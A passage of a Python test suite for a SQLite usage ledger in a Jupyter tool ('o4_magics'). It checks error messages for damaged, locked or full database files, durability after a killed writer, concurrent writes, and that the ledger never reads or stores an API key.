    (home / USAGE_FILE).mkdir(parents=True)
    text = first_warning(lambda: Ledger().record(make_row()))
    assert f"{home / USAGE_FILE} is a directory, not a database file" in text and "Move it aside" in text


def test_warning_not_a_database(home):
    home.mkdir()
    (home / USAGE_FILE).write_bytes(b"this is not a database, " * 200)
    text = first_warning(lambda: Ledger().record(make_row()))
    assert "the file is damaged (file is not a database)" in text
    assert "rename it to usage.sqlite.damaged" in text and "permission" not in text


def test_warning_malformed_database(home):
    damage_pages(home)
    text = first_warning(lambda: Ledger().record(make_row()))
    assert "the file is damaged (database disk image is malformed)" in text, text
    assert "rename it to usage.sqlite.damaged" in text


def test_warning_database_full(ledger, home):
    text = first_warning(lambda: fill_pages(ledger))
    assert f"the disk holding {home} is full" in text and "Free some space" in text, text
    assert "damaged" not in text and ledger.pending  # the call waits in memory


def test_warning_database_locked(home, monkeypatch):
    import o4_magics.store.ledger as ledger_module

    Ledger().record(make_row())
    monkeypatch.setattr(ledger_module, "BUSY_TIMEOUT_S", 0.2)
    other = sqlite3.connect(home / USAGE_FILE, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")  # another kernel in the middle of a long write
    try:
        ledger = Ledger()
        text = first_warning(lambda: ledger.record(make_row()))
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert "another process kept it locked for over 0.2 s" in text and "tried again at the next call" in text
    assert "damaged" not in text
    assert ledger.record(make_row()) > 0 and ledger.totals()["calls"] == 3  # the waiting row is written too


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (OSError(errno.EROFS, "Read-only file system"), "is on a read-only file system"),
        (OSError(errno.ENOSPC, "No space left on device"), "is full"),
        (PermissionError(errno.EACCES, "Permission denied"), "(permission denied)"),
    ],
    ids=["erofs", "enospc", "eacces"],
)
def test_warning_from_operating_system_errors(home, error, words):
    """Causes a test cannot make for real without root mounts: the errno decides the words."""
    from o4_magics.store.failures import explain_failure

    home.mkdir()
    failure = explain_failure(error, home / USAGE_FILE, home, 10.0)
    assert words in failure.reason and "O4_MAGICS_HOME" in failure.remedy
    assert "damaged" not in failure.reason + failure.remedy


WRITER = """
    from o4_magics.store.ledger import Ledger, UsageRow
    ledger = Ledger()
    while True:
        ledger.record(UsageRow(notebook="killed.ipynb", model="m", cost_usd=0.001, error="x" * 500))
"""


def test_ledger_is_readable_after_a_writer_is_killed_mid_write(home):
    writer = run_python(WRITER, home)
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if (home / USAGE_FILE).exists():
                try:
                    if count_rows(home) >= 2000:
                        break
                except sqlite3.OperationalError:
                    pass  # schema not there yet
            time.sleep(0.05)
        writer.send_signal(signal.SIGKILL)
    finally:
        writer.kill()
        writer.wait()
    assert writer.returncode == -signal.SIGKILL
    with Ledger() as ledger:
        written = ledger.totals()["calls"]
        assert written >= 2000
        assert ledger.record(make_row()) > 0
        assert ledger.totals()["calls"] == written + 1
    with sqlite3.connect(home / USAGE_FILE) as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)


RECORDER = """
    import sys, time
    from pathlib import Path
    from o4_magics.store.ledger import Ledger, UsageRow
    go = Path(sys.argv[1])
    while not go.exists():
        time.sleep(0.005)
    ledger = Ledger()
    for cell in range(500):
        assert ledger.record(UsageRow(notebook=sys.argv[2], cell=cell, cost_usd=0.01)) > 0
"""


def test_two_processes_recording_at_once_lose_no_row(home, tmp_path):
    go = tmp_path / "go"
    recorders = [
        subprocess.Popen(
            [sys.executable, "-c", textwrap.dedent(RECORDER), str(go), name],
            env={**os.environ, "O4_MAGICS_HOME": str(home)},
        )
        for name in ("one.ipynb", "two.ipynb")
    ]
    time.sleep(0.3)  # both are waiting on the go file
    go.touch()
    assert [recorder.wait(timeout=60) for recorder in recorders] == [0, 0]
    ledger = Ledger()
    assert ledger.totals()["calls"] == 1000
    assert {n["notebook"]: n["calls"] for n in ledger.per_notebook()} == {"one.ipynb": 500, "two.ipynb": 500}
    assert ledger.totals()["cost_usd"] == pytest.approx(10.0)


# -- secrets --------------------------------------------------------------------------------------------------


class WatchedEnviron(dict):
    """A stand-in for ``os.environ`` that remembers every name read."""

    def __init__(self, values):
        super().__init__(values)
        self.read = set()

    def __getitem__(self, name):
        self.read.add(name)
        return super().__getitem__(name)

    def get(self, name, default=None):
        self.read.add(name)
        return super().get(name, default)

    def __contains__(self, name):
        self.read.add(name)
        return super().__contains__(name)


def test_ledger_reads_no_key_from_the_environment(tmp_path, monkeypatch):
    secret = "sk-or-v1-" + "s3cr3t" * 8
    environ = WatchedEnviron(
        {**os.environ, "OPENROUTER_API_KEY": secret, "O4_MAGICS_HOME": str(tmp_path / "h")}
    )
    monkeypatch.setattr(os, "environ", environ)
    ledger = Ledger()
    ledger.record(make_row())
    ledger.totals(), ledger.per_model(), ledger.per_notebook(), ledger.recent()
    ledger.cache_put(cache_key(REQUEST), {"text": "x"})
    ledger.cache_get(cache_key(REQUEST))
    ledger.export_csv(tmp_path / "out.csv")
    ledger.close()
    assert "O4_MAGICS_HOME" in environ.read
    assert not [name for name in environ.read if "KEY" in name.upper()]
    for path in (tmp_path / "h").iterdir():
        assert secret.encode() not in path.read_bytes()
    store = Path(sys.modules[Ledger.__module__].__file__).parent
    source = "".join(path.read_text() for path in sorted(store.glob("*.py")))
    assert set(re.findall(r"(?:environ\.get\(|environ\[|getenv\()\s*[\"']([^\"']+)", source)) == {
        "O4_MAGICS_HOME",
        "JPY_SESSION_NAME",
        "JUPYTER_SERVER_ROOT",
        "JUPYTERHUB_USER",  # who made a call (store/user.py)
    }
